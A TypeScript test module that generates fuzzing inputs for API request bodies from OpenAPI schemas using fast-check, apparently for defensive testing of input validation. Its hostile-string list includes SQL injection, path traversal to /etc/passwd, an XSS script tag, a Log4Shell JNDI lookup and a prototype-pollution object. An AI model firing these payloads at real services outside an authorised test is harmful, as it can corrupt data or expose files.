import fc from 'fast-check';
import { resolveSchema } from './harness';

/**
 * fast-check arbitraries from the OpenAPI request schemas: values that conform, hostile values,
 * and mutations of conforming values (a node replaced by a hostile value, a property removed or
 * added). Whether a generated body conforms is decided afterwards by Ajv, not guessed here.
 */

interface Schema {
  $ref?: string;
  type?: string;
  properties?: Record<string, Schema>;
  required?: string[];
  additionalProperties?: boolean | Schema;
  items?: Schema;
  enum?: unknown[];
  oneOf?: Schema[];
  anyOf?: Schema[];
  allOf?: Schema[];
  format?: string;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  minItems?: number;
  maxItems?: number;
  nullable?: boolean;
}

const MAX_DEPTH = 6;

/** Strings that have broken services before: NUL, lone surrogates, injections, paths, long text. */
export const HOSTILE_STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\uD800',
  '💥'.repeat(40),
  "' OR '1'='1' --",
  '"; DROP TABLE segment; --',
  '$1',
  ':param',
  '%00%2F..%2F',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  '${jndi:ldap://example.invalid/x}',
  '\\',
  '\r\n\t',
  '*',
  'x'.repeat(67),
  'x'.repeat(300),
  'y'.repeat(5000),
  '2021-02-30T25:61:61Z',
  'NaN',
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
);

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      null,
      true,
      false,
      0,
      -1,
      1.5,
      1e308,
      -1e308,
      2 ** 31,
      2 ** 53 + 1,
      [],
      {},
      [[]],
      [null],
    ),
  },
  { weight: 1, arbitrary: fc.integer() },
  {
    weight: 1,
    arbitrary: fc.constant(JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}')),
  },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

function merged(schemas: Schema[]): Schema {
  const parts = schemas.map((schema) => resolveSchema(schema as never) as Schema);
  return {
    ...Object.assign({}, ...parts),
    properties: Object.assign({}, ...parts.map((part) => part.properties ?? {})),
    required: parts.flatMap((part) => part.required ?? []),
  };
}

function stringFor(schema: Schema): fc.Arbitrary<string> {
  if (schema.format === 'date-time') {
    return fc
      .date({ min: new Date('1970-01-01T00:00:00Z'), max: new Date('2100-01-01T00:00:00Z'), noInvalidDate: true })
      .map((date) => date.toISOString());
  }
  const minLength = schema.minLength ?? 0;
  const maxLength = Math.min(schema.maxLength ?? 24, Math.max(minLength, 24));
  if (schema.pattern) {
    return fc
      .stringMatching(new RegExp(schema.pattern))
      .filter((value) => value.length >= minLength && value.length <= (schema.maxLength ?? Infinity));
  }
  return fc.string({ minLength, maxLength, unit: 'grapheme-ascii' });
}

/** Values that conform to `schema` (as far as the keywords the document uses go). */
export function conforming(input: Schema | undefined, depth = 0): fc.Arbitrary<unknown> {
  const schema = resolveSchema(input as never) as Schema | undefined;
  if (!schema || depth > MAX_DEPTH) return fc.constant({});
  let arbitrary: fc.Arbitrary<unknown>;
  if (schema.allOf) arbitrary = conforming({ ...merged(schema.allOf), allOf: undefined }, depth);
  else if (schema.oneOf || schema.anyOf)
    arbitrary = fc.oneof(
      ...(schema.oneOf ?? schema.anyOf ?? []).map((alternative) => conforming(alternative, depth + 1)),
    );
  else if (schema.enum) arbitrary = fc.constantFrom(...schema.enum);
  else {
    switch (schema.type ?? (schema.properties ? 'object' : undefined)) {
      case 'string':
        arbitrary = stringFor(schema);
        break;
      case 'integer':
        arbitrary = fc.integer({ min: schema.minimum ?? -1_000_000, max: schema.maximum ?? 1_000_000 });
        break;
      case 'number':
        arbitrary = fc.double({
          min: schema.minimum ?? -1e9,
          max: schema.maximum ?? 1e9,
          noNaN: true,
          noDefaultInfinity: true,
        });
        break;
      case 'boolean':
        arbitrary = fc.boolean();
        break;
      case 'array':
        arbitrary = fc.array(conforming(schema.items, depth + 1), {
          minLength: schema.minItems ?? 0,
          maxLength: Math.max(schema.minItems ?? 0, Math.min(schema.maxItems ?? 3, 3)),
        });
        break;
      case 'object': {
        const properties = Object.entries(schema.properties ?? {});
        if (!properties.length) {
          const values =
            typeof schema.additionalProperties === 'object'
              ? conforming(schema.additionalProperties, depth + 1)
              : fc.jsonValue({ maxDepth: 2 });
          arbitrary = fc.dictionary(fc.string({ minLength: 1, maxLength: 8, unit: 'grapheme-ascii' }), values, {
            maxKeys: 3,
          });
        } else {
          arbitrary = fc.record(
            Object.fromEntries(properties.map(([name, property]) => [name, conforming(property, depth + 1)])),
            { requiredKeys: schema.required ?? [] },
          );
        }
        break;
      }
      default:
        arbitrary = fc.jsonValue({ maxDepth: 2 });
    }
  }
  return schema.nullable ? fc.option(arbitrary, { nil: null, freq: 8 }) : arbitrary;
}

type Path = Array<string | number>;

function nodePaths(value: unknown, at: Path = [], out: Path[] = []): Path[] {
  out.push(at);
  if (Array.isArray(value)) value.forEach((entry, index) => nodePaths(entry, [...at, index], out));
  else if (value && typeof value === 'object')
    for (const [key, child] of Object.entries(value)) nodePaths(child, [...at, key], out);
  return out;
}

function applyAt(
  root: unknown,
  path: Path,
  change: (parent: Record<string | number, unknown>, key: string | number) => void,
): unknown {
  const copy = structuredClone(root);
  if (!path.length) return undefined;
  const parent = path
    .slice(0, -1)
    .reduce<unknown>((node, key) => (node as Record<string | number, unknown>)[key], copy) as Record<
    string | number,
    unknown
  >;
  change(parent, path[path.length - 1]);
  return copy;
}

/** A conforming value with one node replaced, removed, or a property added. */
export function mutated(schema: Schema | undefined): fc.Arbitrary<unknown> {
  return conforming(schema).chain((value) => {
    const paths = nodePaths(value);
    return fc
      .tuple(
        fc.constantFrom(...paths),
        fc.constantFrom('replace', 'remove', 'add'),
        hostileValue,
        fc.constantFrom('unknownField', 'tenant', 'created_at', 'id', 'metadata', 'mixins'),
      )
      .map(([path, kind, hostile, name]) => {
        if (kind === 'replace')
          return path.length ? applyAt(value, path, (parent, key) => (parent[key] = hostile)) : hostile;
        if (kind === 'remove')
          return path.length
            ? applyAt(value, path, (parent, key) =>
                Array.isArray(parent) ? parent.splice(Number(key), 1) : delete parent[key],
              )
            : undefined;
        const at = (root: unknown) =>
          path.reduce<unknown>((current, key) => (current as Record<string | number, unknown>)[key], root);
        const node = at(value);
        if (!node || typeof node !== 'object') return hostile;
        const copy = structuredClone(value);
        const into = at(copy) as Record<string, unknown> | unknown[];
        if (Array.isArray(into)) into.push(hostile);
        else into[name] = hostile;
        return copy;
      });
  });
}
